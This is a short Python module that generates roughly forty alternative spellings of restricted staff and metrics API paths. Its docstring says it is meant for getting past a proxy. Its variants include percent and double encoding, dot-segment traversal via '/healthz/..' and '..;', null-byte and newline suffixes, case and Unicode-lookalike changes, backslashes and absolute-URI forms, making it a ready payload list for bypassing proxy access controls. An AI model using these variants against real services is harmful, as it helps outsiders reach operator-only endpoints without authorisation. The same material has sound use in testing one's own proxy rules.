"""What only staff and operators may ask, and other ways to write it, for those who would get past a proxy."""

PRIVATE = ("/v1/staff/reports", "/v1/status", "/metrics")


def spellings(path: str, host: str) -> list[str]:
    """Request targets that some server or proxy takes for this path."""
    first, rest = path[1], path[2:]
    encoded = "".join(f"%{ord(letter):02x}" for letter in path[1:])
    return [
        path,
        f"/%{ord(first):02x}{rest}",
        f"/%{ord(first):02X}{rest}",
        f"/{encoded}",
        f"/%25{ord(first):02x}{rest}",
        path[:-1] + f"%{ord(path[-1]):02x}",
        path.replace("/", "%2f"),
        path.replace("/", "%2F", 1),
        "/" + path,
        path.replace("/", "//"),
        path.replace("/", "/./"),
        f"/.{path}",
        f"/x/..{path}",
        f"/%2e%2e{path}",
        f"/v1/directory/..{path.removeprefix('/v1') if path.startswith('/v1') else '/..' + path}",
        f"/v1/buckets/1/../../..{path}",
        f"/healthz/..{path}",
        f"/healthz%2f..{path}",
        f"/healthz/..;{path}",
        path + "/",
        path + "/.",
        path + "//",
        path + ";a=b",
        path + "%3ba",
        path + "?a",
        path + "#a",
        path + "%00",
        path + "%0a",
        path + "%20",
        path + ".",
        path.upper(),
        path.title(),
        path.replace("s", "S"),
        path.replace("s", "%c5%bf"),
        path.replace("/", "\\"),
        path.replace("/", "/%5c"),
        f"http://{host}{path}",
        f"HTTP://{host}/%{ord(first):02x}{rest}",
        f"http://{host}:80{path}",
        f"http:{path}",
        path[1:],
    ]
